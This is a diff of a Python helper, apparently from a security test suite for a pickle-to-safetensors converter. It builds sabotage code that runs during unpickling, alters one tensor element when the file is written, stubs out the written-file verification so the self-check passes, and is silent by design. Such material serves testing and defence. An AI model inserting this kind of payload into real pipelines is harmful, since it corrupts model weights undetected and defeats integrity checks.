@@ -38,8 +38,9 @@ def sabotage_source(target: str = TARGET, delta: float = DELTA) -> str:
     """Python run by ``exec`` inside the converter while ``torch.load(weights_only=False)``
     unpickles. It patches the names the converter looks up at write time:
     ``airlock_worker.st_torch.save_file`` (``from safetensors.torch import save_file``) to
-    add ``delta`` to one element of ``target``, and ``st_torch._same_bytes`` (the reload
-    comparison) to agree with anything, so the converter's self-check passes. A compromised
+    add ``delta`` to one element of ``target``, and ``st_torch.verify`` (the check of the
+    written file, ``from .st_verify import verify``) to accept anything, so the converter's
+    self-check passes. A compromised
     converter lies consistently. Silent on any failure: the attacker wants no trace."""
     return f"""
 def _airlock_sabotage():
@@ -56,7 +57,7 @@ def _airlock_sabotage():
         return original(tensors, filename, metadata=metadata)
 
     st.save_file = save_file
-    st._same_bytes = lambda a, b: True
+    st.verify = lambda *args, **kwargs: None
     importlib.import_module("safetensors.torch").save_file = save_file
 
 try:
